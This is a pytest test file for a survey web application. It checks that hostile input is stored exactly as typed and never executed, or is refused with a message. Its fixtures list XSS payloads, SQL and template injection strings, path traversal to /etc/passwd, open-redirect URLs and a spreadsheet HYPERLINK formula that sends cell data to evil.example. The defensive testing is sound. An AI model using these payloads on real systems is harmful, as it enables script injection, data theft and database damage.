"""What nobody should type: kept exactly or refused with a sentence on every page that shows it, and never run."""

import re
from datetime import UTC, datetime

import make
import pytest
from staff import make_app
from visitors import address_of, at_first_practice, interview_of, open_link

from survey.services.interviewing import overview

NOW = datetime(2026, 3, 10, 9, 30, tzinfo=UTC)
KEPT = {
    "T02": '"><h1>x</h1><img src=x onerror=alert(1)>',
    "T03": "'-alert(1)-'",
    "T04": "</script><svg/onload=alert(1)>",
    "T05": "javascript:alert(1)",
    "T08": "{{7*7}}",
    "T11": "{0.__class__} %s %n %(x)s",
    "T12": "Robert'); DROP TABLE answer;--",
    "T16": "=1+1",
    "T18": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "T22": "\t=1+1",
    "T37": "\N{WOMAN}\N{ZERO WIDTH JOINER}\N{GIRL} \N{REGIONAL INDICATOR SYMBOL LETTER S}",
    "T38": "\N{RIGHT-TO-LEFT OVERRIDE}gpj.exe",
    "T39": "Z" + "\N{COMBINING LATIN SMALL LETTER A}" * 20,
    "T40": "\u0645\u0631\u062d\u0628\u0627 \u05e9\u05dc\u05d5\u05dd \u4f60\u597d",
    "T43": "\N{ZERO WIDTH SPACE}\N{NO-BREAK SPACE}\N{IDEOGRAPHIC SPACE} \t",
    "T45": "a\n\nb\N{LINE SEPARATOR}c",
    "T52": "../../../../etc/passwd %2e%2e%2f ..\\..\\",
    "T53": "null",
    "T54": "true",
    "T60": '<a href="x" onmouseover=alert(1)>h</a><svg><script>1</script></svg><form action=//e.example>',
}
REFUSED = {
    "T30": "a\x00b",
    "T31": "a\x1bb",
    "T36": "a\ufffe\uffffb",
    "T46": "x" * 33_000,
    "T48": "a" * 50_000 + "!",
}


@pytest.fixture
def app(sqlite_database, tmp_path):
    with sqlite_database.writing() as session:
        make.make_study(session, now=NOW)
    return make_app(sqlite_database, tmp_path)


@pytest.fixture
def link(sqlite_database, app):
    with sqlite_database.writing() as session:
        return make.make_invited(session, session.query(make.Study).one(), now=NOW).token


@pytest.fixture
def visitor(app, link):
    found = at_first_practice(app, link)
    found.get(address_of(found, "practice/1/barriers"))
    return found


def texts(database, visitor):
    with database.reading() as session:
        return overview(session, interview_of(visitor)).practices[0].texts


def test_what_can_be_kept_is_kept_and_shown_as_it_was_typed(sqlite_database, visitor, subtests):
    form = visitor.page
    for name, typed in KEPT.items():
        with subtests.test(name):
            visitor.page = form
            visitor.address = address_of(visitor, "practice/1/barriers")

            # The client looks at each page: its elements close, nothing is inline, no id stands twice.
            assert visitor.send("answers", COMMENT=typed.replace("\n", "\r\n"), SURE=2, to="later").status_code == 200

            assert texts(sqlite_database, visitor)["COMMENT"] == typed
            for page in ("practice/1/barriers", "practice/1/all"):
                visitor.get(address_of(visitor, page))
                assert visitor.page.form("answers").chosen("COMMENT") == [typed]
                form = visitor.page
            answer = visitor.get(address_of(visitor, "review"))
            assert " ".join(typed.split()) in visitor.page.words
            assert not re.search(
                "<(img|script|svg/|form action=//)", answer.get_data(as_text=True).split("<script type")[0]
            )


def test_what_cannot_be_kept_is_refused_with_a_sentence_and_the_rest_is_kept(sqlite_database, visitor, subtests):
    form = visitor.page
    for name, typed in REFUSED.items():
        with subtests.test(name):
            visitor.page = form
            visitor.address = address_of(visitor, "practice/1/barriers")

            answer = visitor.send("answers", COMMENT=typed, B01=1, to="next")

            assert answer.status_code == 422
            assert re.search("no more than 2000 characters|characters that cannot be stored", visitor.page.words)
            assert len(visitor.page.form("answers").chosen("COMMENT")[0]) == len(typed)
            assert "COMMENT" not in texts(sqlite_database, visitor)


@pytest.mark.parametrize(
    ("question", "value"),
    [("FAM", "6"), ("FAM", "1e999999"), ("FAM", "-0"), ("FAM", "\u0661"), ("FAM", "{'$gt': ''}"), ("FAM", "9" * 5000)],
)
def test_an_answer_that_is_no_choice_is_refused_with_a_sentence(sqlite_database, visitor, question, value):
    visitor.get(address_of(visitor, "practice/1/know"))

    answer = visitor.send("answers", **{question: value}, EXIST=3, to="next")

    assert answer.status_code == 422
    assert "Please choose one of the options." in visitor.page.words
    with sqlite_database.reading() as session:
        codes = overview(session, interview_of(visitor)).practices[0].codes
    assert (codes[question], codes["EXIST"]) == (-128, 3)


@pytest.mark.parametrize(
    "query",
    [
        "?lang=xx", "?lang=%00", "?lang=en&lang=it", "?lang=../../etc/passwd", "?lang=<script>alert(1)</script>",
        "?back=//evil.example", "?back=javascript:alert(1)", "?more=<script>alert(1)</script>", "?more=%ff%fe",
        "?a[]=1",
    ],
)  # fmt: skip
def test_nothing_in_an_address_breaks_a_page_or_leads_elsewhere(visitor, link, query):
    for address in (f"/link/{link}", *(address_of(visitor, page) for page in ("profile", "practice/1/know", "review"))):
        answer = visitor.get(address + query)

        assert answer.status_code == 200
        assert "<script>alert" not in answer.get_data(as_text=True)
        assert not [each for each in visitor.page.links if "evil.example" in each or each.startswith("javascript:")]


@pytest.mark.parametrize(
    "address", ["/link/%zz%ff%fe", "/link/..%2f..%2fetc%2fpasswd", "/link/' OR 1=1 --", "/interview/-1/review", "/%ff"]
)
def test_an_address_that_is_none_is_not_found(app, address):
    visitor = app.test_client()

    assert visitor.get(address).status_code == 404


def test_a_form_with_more_fields_than_any_page_has_is_told_so(visitor):
    fields = {f"q{number}": "1" for number in range(1_200)}

    assert visitor.send("answers", **fields, to="next").status_code == 422


@pytest.mark.parametrize("purpose", [KEPT["T02"], KEPT["T04"], KEPT["T08"], KEPT["T11"], KEPT["T40"]])
def test_what_a_lead_says_about_a_study_is_shown_and_not_run(sqlite_database, app, link, purpose):
    with sqlite_database.writing() as session:
        for text in session.query(make.Study).one().texts:
            text.purpose = text.title = text.owner = purpose

    visitor = open_link(app, link)

    assert visitor.page.words.count(" ".join(purpose.replace("'", "\N{RIGHT SINGLE QUOTATION MARK}").split())) == 3
    visitor.send(consent="yes")
    visitor.get(address_of(visitor, "privacy"))
